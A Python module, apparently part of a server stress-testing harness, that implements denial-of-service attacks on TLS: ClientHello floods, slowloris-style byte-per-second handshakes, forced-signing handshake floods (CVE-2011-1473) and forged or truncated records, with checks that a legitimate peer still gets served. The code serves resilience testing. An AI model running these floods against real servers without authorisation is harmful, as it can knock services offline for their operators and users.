"""Attacks on TLS itself: handshakes that do not end, and handshakes for nothing."""

import collections
import functools
import threading
import time

import secured
from connection_attacks import ANOTHER
from registry import attack, check, slow
from slow import CONNECTIONS, WAIT, until_closed
from wire import Plain


@functools.cache
def client_hello(target):
    """The first message of a handshake, which the attacker pays for once: the server answers each of its copies."""
    return secured.Session(target, "h2").client_hello()


def begun(run, first, wait=1.0):
    """A connection whose handshake has begun, and goes no further."""
    plain = Plain(run.target, wait=wait, is_raw=True)
    plain.send(first)
    return plain


@attack("5,000 connections, 1,000/s, ClientHello and nothing more", seconds=6, long_seconds=20, connections=512, needs_tls=True)
def handshakes_begun(run):
    """Handshakes that the server has answered, and whose client says no more."""
    plains, hello = [], client_hello(run.target)
    for count in run.ticks(1_000):
        for _ in range(min(count, 5_000 - len(plains))):
            plains.append(begun(run, hello))
            run.sent += plains[-1].is_open
        for plain in plains[-50:]: plain.take()
    answered = sum(plain.received_count > 0 for plain in plains)
    run.ended(*plains)
    run.notes.append(f"{answered:,} answered")


def distant(run, delay):
    """One request over TLS by another peer whose answers take so many seconds on their way; whether it is answered."""
    plain = Plain(run.target, source=ANOTHER, is_raw=True)
    session = secured.Session(run.target, "http/1.1")
    plain.send(session.client_hello())
    until = time.monotonic() + delay
    while plain.is_open and time.monotonic() < until: plain.take(0.02)
    session.incoming.write(bytes(plain.received))
    is_complete = plain.is_open and session.advance()
    if is_complete:
        plain.send(session.outgoing.read())
        # The server's tickets, or its close.
        plain.session, plain.received = session, bytearray()
        plain.send(b"GET /healthz HTTP/1.1\r\nHost: honest\r\n\r\n")
        until = time.monotonic() + 2
        while plain.is_open and not plain.received and time.monotonic() < until: plain.take(0.02)
    is_served = plain.received.startswith(b"HTTP/1.1 200")
    plain.close()
    return is_served


@attack("3,000 connections/s that send nothing, from one address", seconds=4, connections=512, needs_tls=True)
def handshakes_of_others(run):
    """An attacker that computes nothing fills the places of handshakes; a peer that is 0.3 s away must get through."""
    stop, served = threading.Event(), []

    def others():
        while not stop.is_set():
            served.append(distant(run, 0.3))

    thread = threading.Thread(target=others)
    run.pause(0.2)
    thread.start()
    plains = collections.deque()
    for count in run.ticks(3_000):
        for _ in range(count):
            plains.append(Plain(run.target, wait=0.5, is_raw=True))
            run.sent += plains[-1].is_open
        while len(plains) > 2_000: run.ended_unread(plains.popleft())
    stop.set()
    thread.join()
    if lost := served.count(False):
        run.find(f"{lost} of {len(served)} handshakes of another peer were cut")
    run.notes.append(f"{served.count(True)} of another peer served")
    run.ended(*plains)


@attack("1,000 ClientHellos/s, each closed when it is answered", seconds=3, needs_tls=True)
def handshakes_thrown_away(run):
    """The server signs for each; the attacker computes nothing, as with CVE-2011-1473."""
    hello, waiting, answered = client_hello(run.target), [], 0
    for count in run.ticks(1_000):
        # At most 200 at once, so that the limit of handshakes under way is not what is measured.
        for _ in range(min(count, 200 - len(waiting))):
            waiting.append(begun(run, hello, wait=0.5))
            run.sent += waiting[-1].is_open
        for plain in waiting: plain.take()
        done = [plain for plain in waiting if plain.received_count or not plain.is_open]
        waiting = [plain for plain in waiting if not plain.received_count and plain.is_open]
        for plain in done:
            answered += plain.received_count > 0
            plain.close()
            run.outcomes[plain.end] += 1
    run.ended(*waiting)
    run.notes.append(f"{answered:,} answered")


@attack("1,000 connections, 500/s, a byte of ClientHello a second each", seconds=3, connections=512, needs_tls=True)
def client_hellos_in_drops(run):
    """CVE-2007-6750, slowloris, one layer lower."""
    plains, due, hello = [], 1.0, client_hello(run.target)
    for count in run.ticks(500):
        plains += [begun(run, b"") for _ in range(min(count, 1_000 - len(plains)))]
        if run.passed > due:
            due += 1
            for plain in plains:
                plain.take()
                run.sent += plain.send(hello[plain.sent_count : plain.sent_count + 1])
    run.ended(*plains)


@attack("20,000 records/s of 1 byte", needs_tls=True)
def records_of_one_byte(run):
    """A body in records of a byte each: 22 bytes to decrypt and authenticate for one."""
    plain = None
    for count in run.ticks(20_000):
        if plain is None or not plain.is_open:
            if plain: run.ended(plain)
            plain = Plain(run.target)
            plain.send(b"POST /healthz HTTP/1.1\r\nHost: attack\r\nContent-Length: 1000000\r\n\r\n")
        for _ in range(count):
            if plain.is_blocked: break
            run.sent += plain.send(b"x")
        plain.take()
    run.ended(plain)


@attack("300 connections/s, each with a record that cannot be decrypted", seconds=3, needs_tls=True)
def forged_records(run):
    """Whole handshakes, each behind which the server must send an alert and close."""
    for count in run.ticks(300):
        for _ in range(count):
            plain = Plain(run.target, wait=0.5)
            if plain.is_open:
                plain.session = None
                plain.send(b"\x17\x03\x03\x00\x40" + bytes(64))
                run.sent += 1
            plain.close()
            run.outcomes[plain.end] += 1


@slow("a ClientHello and nothing more", seconds=WAIT, long_seconds=400, needs_tls=True)
def half_a_handshake(run):
    """The client does not answer the server's part of the handshake."""
    until_closed(run, [begun(run, client_hello(run.target)) for _ in range(CONNECTIONS)])


@slow("half a ClientHello", seconds=WAIT, long_seconds=400, needs_tls=True)
def half_a_client_hello(run):
    """The record of the first message stops in its middle."""
    until_closed(run, [begun(run, client_hello(run.target)[:100]) for _ in range(CONNECTIONS)])


@slow("a ClientHello, a byte every second", seconds=WAIT, long_seconds=400, needs_tls=True)
def a_client_hello_in_drops(run):
    """Each byte looks like progress."""
    hello = client_hello(run.target)
    until_closed(
        run, [begun(run, hello[:1]) for _ in range(CONNECTIONS)], every=1,
        again=lambda plain: plain.send(hello[plain.sent_count : plain.sent_count + 1]))


@slow("5 bytes of a record behind a handshake", seconds=WAIT, long_seconds=400, needs_tls=True)
def half_a_record(run):
    """A record that announces 16 KB and stops behind its head."""
    made = [Plain(run.target) for _ in range(CONNECTIONS)]
    for plain in made:
        plain.session = None
        plain.send(b"\x17\x03\x03\x40\x00")
    until_closed(run, made)


@check("closed, no answer of HTTP", needs_tls=True)
def http_without_tls(run):
    """A request that is not encrypted, at the address of TLS."""
    plain = begun(run, b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n")
    while plain.is_open and not run.is_over: plain.take(0.2)
    if plain.is_open:
        run.find("the connection is open")
    if b"HTTP/1.1 2" in plain.received:
        run.find("it is answered")
    run.outcomes[f"{len(plain.received)} bytes, {plain.end or 'open'}"] += 1
    plain.close()
